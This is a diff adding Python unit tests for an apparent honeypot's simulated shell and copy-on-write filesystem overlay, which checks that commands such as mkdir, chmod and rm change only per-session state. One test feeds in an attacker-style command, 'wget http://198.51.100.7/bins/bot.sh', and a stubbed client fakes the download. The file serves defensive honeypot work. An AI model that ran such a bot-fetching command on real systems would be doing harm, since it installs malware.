@@ -0,0 +1,161 @@
+# python
+"""
+tests/test_fs_overlay.py
+Unit tests for the per-session copy-on-write filesystem overlay.
+"""
+from pathlib import Path
+import asyncio
+
+from autopot.fs_overlay import FileSystemOverlay
+from autopot.fs_snapshot import FileSystemSnapshot
+from autopot.router import Router
+from autopot.session import Session, iso_ts
+
+
+def _snapshot() -> FileSystemSnapshot:
+    return FileSystemSnapshot(
+        {
+            "type": "dir",
+            "name": "user",
+            "children": [
+                {"type": "file", "name": "a.txt", "size": 3},
+                {
+                    "type": "dir",
+                    "name": "logs",
+                    "children": [{"type": "file", "name": "x.log", "size": 9}],
+                },
+            ],
+        }
+    )
+
+
+def _names(entries):
+    return sorted(e["name"] for e in entries)
+
+
+def _make_session(tmp_path: Path, session_id: str = "test-session") -> Session:
+    return Session(
+        session_id=session_id,
+        remote_ip="127.0.0.1",
+        remote_port=12345,
+        started_ts=iso_ts(),
+        tty_path=str(tmp_path / f"{session_id}.log"),
+        _events_file=str(tmp_path / "events.jsonl"),
+    )
+
+
+def _make_router() -> Router:
+    repo_root = Path(__file__).resolve().parents[1]
+    return Router(scenarios_root=repo_root / "scenarios")
+
+
+def _dispatch(router: Router, session: Session, cmd: str):
+    return asyncio.run(router.dispatch(session, cmd))[0]
+
+
+def test_unchanged_overlay_reads_through() -> None:
+    base = _snapshot()
+    fs = FileSystemOverlay(base)
+    assert fs.root is base.root
+    assert fs.fingerprint == base.fingerprint
+    assert fs.get_node(("logs", "x.log")) is base.get_node(("logs", "x.log"))
+
+
+def test_changes_do_not_touch_the_snapshot() -> None:
+    base = _snapshot()
+    before = base.fingerprint
+    fs = FileSystemOverlay(base)
+    fs.mkdir(("new",))
+    fs.write_file(("new", "f"), "hi\n")
+    fs.remove(("logs",))
+    fs.update(("a.txt",), perms="-rwxr-xr-x")
+
+    assert _names(fs.list_dir(())) == ["a.txt", "new"]
+    assert fs.get_node(("logs", "x.log")) is None
+    assert fs.get_node(("new", "f"))["size"] == 3
+    assert fs.get_node(("a.txt",))["perms"] == "-rwxr-xr-x"
+    assert fs.fingerprint != before
+
+    assert base.fingerprint == before
+    assert _names(base.list_dir(())) == ["a.txt", "logs"]
+    assert "perms" not in base.get_node(("a.txt",))
+
+
+def test_recreated_directory_is_empty() -> None:
+    fs = FileSystemOverlay(_snapshot())
+    fs.write_file(("logs", "y.log"), "")
+    fs.remove(("logs",))
+    fs.mkdir(("logs",))
+    assert fs.list_dir(("logs",)) == []
+    names = [c["name"] for c in fs.root["children"]]
+    assert names == ["a.txt", "logs"]
+
+
+def test_materialized_root_summarizes_written_content() -> None:
+    fs = FileSystemOverlay(_snapshot())
+    fs.write_file(("logs", "note"), "secret\n")
+    logs = next(c for c in fs.root["children"] if c["name"] == "logs")
+    note = next(c for c in logs["children"] if c["name"] == "note")
+    assert "content" not in note
+    assert note["content_summary"] == "secret\n"
+
+
+def test_router_mutations_are_visible_to_follow_up_commands(tmp_path: Path) -> None:
+    router = _make_router()
+    session = _make_session(tmp_path)
+
+    assert _dispatch(router, session, "mkdir -p work/sub") == ""
+    assert _dispatch(router, session, "cd work/sub") == ""
+    assert _dispatch(router, session, "echo hello > x") == ""
+    assert _dispatch(router, session, "echo again >> x") == ""
+    assert _dispatch(router, session, "cat x") == "hello\nagain"
+    assert _dispatch(router, session, "chmod +x x") == ""
+    listing = _dispatch(router, session, "ls -l")
+    assert any(line.startswith("-rwxr-xr-x") and line.endswith(" x") for line in listing.splitlines())
+
+    _dispatch(router, session, "cd /home/user")
+    assert _dispatch(router, session, "rm work") == "rm: cannot remove 'work': Is a directory"
+    assert _dispatch(router, session, "rm -rf work README.txt") == ""
+    names = {line.split()[-1] for line in _dispatch(router, session, "ls -1").splitlines()}
+    assert "work" not in names and "README.txt" not in names
+    assert _dispatch(router, session, "cat README.txt") == "cat: README.txt: No such file or directory"
+
+    # other sessions keep seeing the shared scenario
+    other = _make_session(tmp_path, "other")
+    names = {line.split()[-1] for line in _dispatch(router, other, "ls -1").splitlines()}
+    assert "README.txt" in names
+
+
+def test_touch_and_mkdir_errors(tmp_path: Path) -> None:
+    router = _make_router()
+    session = _make_session(tmp_path)
+    assert _dispatch(router, session, "mkdir logs") == (
+        "mkdir: cannot create directory 'logs': File exists"
+    )
+    assert _dispatch(router, session, "touch nope/f") == (
+        "touch: cannot touch 'nope/f': No such file or directory"
+    )
+    assert _dispatch(router, session, "rmdir logs") == (
+        "rmdir: failed to remove 'logs': Directory not empty"
+    )
+    assert _dispatch(router, session, "chmod zz README.txt") == "chmod: invalid mode: 'zz'"
+    assert _dispatch(router, session, "touch t") == ""
+    assert _dispatch(router, session, "cat t") == ""
+
+
+def test_simulated_wget_creates_file(tmp_path: Path) -> None:
+    class WgetClient:
+        def simulate_command(self, command, fs, bash_history, *, model=None, base_fs=None):
+            return {
+                "stdout": "",
+                "stderr": "2024-01-01 00:00:00 (1 MB/s) - 'bot.sh' saved [1234/1234]",
+                "exit_code": 0,
+            }
+
+    repo_root = Path(__file__).resolve().parents[1]
+    router = Router(scenarios_root=repo_root / "scenarios", llm_client=WgetClient())
+    session = _make_session(tmp_path)
+    _dispatch(router, session, "wget http://198.51.100.7/bins/bot.sh")
+    listing = _dispatch(router, session, "ls -la")
+    line = next(l for l in listing.splitlines() if l.endswith(" bot.sh"))
+    assert " 1234 " in line